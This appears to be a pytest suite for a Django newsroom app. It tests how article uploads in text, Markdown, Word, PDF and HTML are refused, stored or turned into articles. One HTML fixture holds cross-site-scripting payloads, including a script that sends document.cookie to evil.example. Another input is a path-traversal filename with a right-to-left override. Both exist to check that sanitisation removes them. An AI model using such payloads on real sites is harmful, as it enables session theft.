"""Uploading articles through the form, as Alice the editor: what is refused, and how it says so.

What a web request can check cheaply (type, size, count, the first bytes) comes back as the form
(200) with a message a journalist understands, and creates no Article. What needs the file read
(encoding, a damaged Word or PDF file) is found by the worker: the article is stored, then ends
`failed` with the same message on its page. Good uploads create one article per document.
"""

import datetime
import io

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from claims.models import Article
from claims.tasks import extract_article
from tests.bench.html_extraction import PAGES
from tests.conftest import SAMPLE_TEXT, text_of
from tests.test_ingest import make_pdf

# Every test here uses the database (some only through fixtures looked up at run time).
pytestmark = pytest.mark.django_db

UPLOAD = "/articles/new/"


@pytest.fixture
def editor(client, alice):
    client.force_login(alice)
    return client


def upload(client, **data):
    files = [a_file(*f) if isinstance(f, tuple) else f for f in data.pop("files", [])]
    return client.post(UPLOAD, {**data, "files": files} if files else data)


def processed():
    """The uploaded article after the worker's task ran on it."""
    article = Article.objects.get()
    extract_article.apply(args=[article.pk])
    article.refresh_from_db()
    return article


def a_file(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def docx_bytes(title, *paragraphs):
    document = docx.Document()
    document.add_heading(title, level=1)
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_upload_url_is_where_the_form_lives():
    assert reverse("article_upload") == UPLOAD


# --- Refused ------------------------------------------------------------------------------------

# Files are (name, bytes) pairs, made into fresh uploads for each request.
BAD_UPLOADS = {
    "nothing": ({"text": ""}, "Paste the article's text or choose at least one file."),
    "whitespace only": ({"text": "   \n\t  \n"}, "The article is empty: it contains only spaces."),
    "zero-byte file": ({"files": [("empty.txt", b"")]}, "The submitted file is empty."),
    "binary renamed .txt": (
        {"files": [("photo.txt", bytes(range(256)) * 8)]},
        "photo.txt: This file does not look like text (it may be a renamed binary file).",
    ),
    "unknown extension": (
        {"files": [("setup.exe", b"MZ\x90\x00 not an article")]},
        "setup.exe: “.exe” files are not supported.",
    ),
    "not a docx at all": (
        {"files": [("story.docx", b"Plain text wearing a .docx name.")]},
        "story.docx: This file is not a Word document (.docx), whatever its name says.",
    ),
    "not a pdf at all": (
        {"files": [("story.pdf", b"Plain text wearing a .pdf name.")]},
        "story.pdf: This file is not a PDF, whatever its name says.",
    ),
}


@pytest.mark.parametrize("data, message", BAD_UPLOADS.values(), ids=BAD_UPLOADS.keys())
def test_bad_upload_shows_message_on_form(editor, data, message):
    response = upload(editor, **data)

    assert response.status_code == 200
    assert message in text_of(response)
    assert 'role="alert"' in response.content.decode()


@pytest.mark.parametrize("data, message", BAD_UPLOADS.values(), ids=BAD_UPLOADS.keys())
def test_bad_upload_creates_no_article(editor, data, message):
    upload(editor, **data)

    assert not Article.objects.exists()


def test_a_refused_upload_names_the_files_to_choose_again(editor):
    """One empty file among five refuses them all (all or none), and a browser cannot keep the
    chosen files when the form comes back: the form names each one to choose again, so that the
    four good ones are not silently left out of the next try."""
    response = upload(
        editor,
        url="not a url",
        files=[("budget.txt", SAMPLE_TEXT.encode()), ("empty.txt", b""),
               ("speech.md", SAMPLE_TEXT.encode())],
    )  # fmt: skip

    page = text_of(response)
    assert "Files are not kept when the form comes back" in page
    assert "budget.txt, empty.txt, speech.md" in page


def test_a_form_without_files_says_nothing_about_choosing_them_again(editor):
    response = upload(editor, text=SAMPLE_TEXT, url="not a url")

    assert "Files are not kept" not in text_of(response)


# Found when the worker reads the file: stored, then failed with the message on the article page.
UNREADABLE = {
    "invalid UTF-8": (
        ("notes.txt", b"The mayor said \x81\x8d\x8f\x90\x9d were cut."),
        "The file's text encoding was not recognised. Save it as UTF-8 and retry.",
    ),
    "malformed docx": (
        ("story.docx", b"PK\x03\x04 this zip is cut short"),
        "This Word file could not be read (it may be damaged).",
    ),
    "malformed pdf": (
        ("story.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> cut"),
        "This PDF could not be read (it may be damaged or incomplete).",
    ),
}


@pytest.mark.parametrize("file, message", UNREADABLE.values(), ids=UNREADABLE.keys())
def test_unreadable_file_is_stored_then_failed_with_its_message(editor, file, message):
    response = upload(editor, files=[file])

    assert response.status_code == 302
    article = processed()
    assert article.status == Article.Status.FAILED
    assert message in article.error_message
    page = text_of(editor.get(article.get_absolute_url()))
    assert message in page
    assert "This upload could not be read." in page
    assert not article.claims.exists()


def test_text_longer_than_the_limit_fails_with_its_length(editor, settings):
    settings.ARTICLE_MAX_CHARS = 1000

    upload(editor, files=[a_file("long.txt", b"The mayor said so. " * 100)])

    article = processed()
    assert article.status == Article.Status.FAILED
    assert "too long (1,899 characters); the limit is 1,000" in article.error_message


def test_file_over_the_limit_is_refused(editor, settings):
    settings.ARTICLE_MAX_BYTES = 1000

    response = upload(editor, files=[a_file("long.txt", b"The mayor said so. " * 100)])

    assert response.status_code == 200
    assert "long.txt: The file is too large (1.9 KB); the limit is 1000 bytes." in text_of(response)
    assert not Article.objects.exists()


def test_pasted_text_over_the_limit_is_refused(editor, settings):
    settings.ARTICLE_MAX_BYTES = 1000

    response = upload(editor, text="The mayor said so. " * 100)

    assert response.status_code == 200
    assert "The article is too large (1.9 KB); the limit is 1000 bytes." in text_of(response)
    assert not Article.objects.exists()


def test_one_bad_file_refuses_the_whole_upload(editor):
    files = [a_file("good.txt", SAMPLE_TEXT.encode()), a_file("bad.exe", b"MZ")]

    response = upload(editor, files=files)

    assert "bad.exe: “.exe” files are not supported." in text_of(response)
    assert not Article.objects.exists()


def test_invalid_url_shows_field_error_and_keeps_pasted_text(editor):
    response = upload(editor, text="The mayor said <taxes> fell.", url="not a url at all")

    content = response.content.decode()
    assert response.status_code == 200
    assert "Enter a valid URL." in text_of(response)
    assert "The mayor said &lt;taxes&gt; fell.</textarea>" in content
    assert not Article.objects.exists()


def test_filename_with_path_and_controls_is_shown_safely(editor):
    response = upload(editor, files=[a_file("..\\..\\evil\u202etxt.exe", b"MZ")])

    content = text_of(response)
    assert "evil" in content
    assert "\u202e" not in content
    assert "..\\" not in content
    assert not Article.objects.exists()


# --- Accepted -----------------------------------------------------------------------------------

HOSTILE_HTML = (
    "<html><head><title>Site</title><script>alert('head')</script></head><body>"
    '<h1 onclick="steal()">Council passes budget</h1>'
    '<p onclick="steal()">The mayor said waste was cut by 30 percent.</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<img src=x onerror="alert(1)"></body></html>'
)


def test_html_file_is_accepted_without_script(editor):
    response = upload(editor, files=[a_file("story.html", HOSTILE_HTML.encode(), "text/html")])

    assert response.status_code == 302
    article = processed()
    assert (article.format, article.headline) == ("html", "Council passes budget")
    assert "The mayor said waste was cut by 30 percent." in article.body
    for fragment in ("<", "script", "alert", "onclick", "onerror", "document.cookie", "steal"):
        assert fragment not in article.body


def test_pasted_html_is_accepted_without_script(editor):
    upload(editor, text=HOSTILE_HTML)

    article = processed()
    assert article.format == "html"
    assert "script" not in article.body
    assert "onclick" not in article.body


def test_text_file_becomes_article(editor, alice):
    response = upload(editor, files=[a_file("budget.txt", SAMPLE_TEXT.encode(), "text/plain")])

    article = Article.objects.get()
    assert response["Location"] == article.get_absolute_url()
    assert (article.status, article.body, article.title) == ("queued", "", "budget.txt")
    assert (article.uploaded_by, article.original_filename) == (alice, "budget.txt")
    article = processed()
    first_line = SAMPLE_TEXT.split("\n")[0]
    assert (article.format, article.headline, article.status) == ("text", first_line, "ready")
    assert article.body == SAMPLE_TEXT


def test_pasted_text_becomes_article_with_metadata(editor):
    upload(
        editor, text=SAMPLE_TEXT, headline="Budget", outlet="The Courier",
        url="example.org/budget", published_on="2025-03-01",
    )  # fmt: skip

    article = Article.objects.get()
    assert (article.headline, article.outlet, article.url) == (
        "Budget",
        "The Courier",
        "https://example.org/budget",
    )
    assert str(article.published_on) == "2025-03-01"


def test_markdown_file_becomes_article_with_its_title(editor):
    markdown = "# Tram line by 2027\n\nHolloway **said** the [tram](https://x.org) would open."

    upload(editor, files=[a_file("tram.md", markdown.encode(), "text/markdown")])

    article = processed()
    assert (article.format, article.headline) == ("markdown", "Tram line by 2027")
    assert "Holloway said the tram would open." in article.body
    assert "**" not in article.body


def test_word_file_becomes_article(editor):
    data = docx_bytes("Budget approved", "The mayor said waste fell by 30 percent.")

    upload(editor, files=[a_file("budget.docx", data)])

    article = processed()
    assert (article.format, article.headline) == ("docx", "Budget approved")
    assert "The mayor said waste fell by 30 percent." in article.body


def test_uploaded_original_can_be_downloaded(editor):
    data = docx_bytes("Budget approved", "The mayor said waste fell by 30 percent.")
    upload(editor, files=[a_file("budget.docx", data)])
    article = Article.objects.get()

    response = editor.get(reverse("article_original", args=[article.pk]))

    assert b"".join(response.streaming_content) == data
    assert "attachment" in response["Content-Disposition"]


def test_two_files_become_two_articles(editor):
    files = [
        a_file("one.txt", b"The mayor said taxes fell."),
        a_file("two.md", b"# Second\n\nOfficials said rents rose."),
    ]

    response = upload(editor, files=files, headline="Shared headline")

    assert response["Location"] == reverse("article_list")
    for article in Article.objects.all():
        extract_article.apply(args=[article.pk])
    headlines = sorted(Article.objects.values_list("headline", flat=True))
    assert headlines == ["Second", "The mayor said taxes fell."]


# --- The document's own details -----------------------------------------------------------------

NEWS_PAGE = "riverside-gazette-wordpress.html"


def test_an_uploaded_web_page_gives_the_article_its_details(editor):
    upload(editor, files=[(NEWS_PAGE, (PAGES / NEWS_PAGE).read_bytes(), "text/html")])

    article = processed()
    assert article.headline == "Council approves £4m flood defence plan for Millbrook"
    assert (article.outlet, article.author) == ("The Riverside Gazette", "Maria Okafor")
    assert article.published_on == datetime.date(2024, 3, 14)
    assert article.url == (
        "https://riversidegazette.example/2024/03/14/council-approves-flood-defence-plan/"
    )
    assert article.body.startswith("Millbrook will get new flood walls")
    assert "We use cookies" not in article.body and "Leave a Reply" not in article.body


def test_what_the_editor_typed_is_kept_and_only_empty_fields_are_filled(editor):
    upload(
        editor, files=[(NEWS_PAGE, (PAGES / NEWS_PAGE).read_bytes(), "text/html")],
        headline="Flood walls: the vote", outlet="Lune Valley Weekly", published_on="2024-03-15",
    )  # fmt: skip

    article = processed()
    assert (article.headline, article.outlet) == ("Flood walls: the vote", "Lune Valley Weekly")
    assert article.published_on == datetime.date(2024, 3, 15)
    assert article.author == "Maria Okafor"  # left empty, so the page's


def test_a_pdf_with_a_junk_title_is_headed_by_its_first_line_not_its_file_name(editor):
    pdf = make_pdf(
        page_lines=[["Council approves budget", "By Jane Smith", "The council approved it."]],
        info={"Title": "Microsoft Word - budget_final3.docx", "Author": "Administrator"},
    )
    upload(editor, files=[("budget_final3.pdf", pdf)])

    article = processed()
    assert (article.headline, article.author) == ("Council approves budget", "Jane Smith")


# --- Duplicates ---------------------------------------------------------------------------------


def test_duplicate_upload_is_offered_not_saved(editor):
    upload(editor, text=SAMPLE_TEXT, headline="Budget")

    response = upload(editor, text=SAMPLE_TEXT, headline="Budget again")

    content = text_of(response)
    assert response.status_code == 200
    assert "This text is already here: “Budget”." in content
    assert 'name="allow_duplicate"' in response.content.decode()
    assert "Upload anyway" in content
    assert Article.objects.count() == 1


def test_upload_anyway_is_offered_only_for_a_duplicate(editor):
    """An empty form ("choose at least one file") offered "Upload anyway, even if the same text
    is already here", about a duplicate there was not."""
    response = upload(editor, text="", headline="Budget")

    assert "Paste the article's text or choose at least one file." in text_of(response)
    assert 'name="allow_duplicate"' not in response.content.decode()


def test_duplicate_upload_anyway_creates_second_article(editor):
    upload(editor, text=SAMPLE_TEXT, headline="Budget")

    response = upload(editor, text=SAMPLE_TEXT, headline="Budget again", allow_duplicate="on")

    assert response.status_code == 302
    assert sorted(Article.objects.values_list("headline", flat=True)) == [
        "Budget",
        "Budget again",
    ]


def test_duplicate_among_several_files_is_skipped_with_warning(editor):
    upload(editor, text="The mayor said taxes fell.")
    files = [
        a_file("old.txt", b"The mayor said taxes fell."),
        a_file("new.txt", b"Officials said rents rose."),
    ]

    response = editor.post(UPLOAD, {"files": files}, follow=True)

    assert "Skipped a duplicate of" in text_of(response)
    assert Article.objects.count() == 2
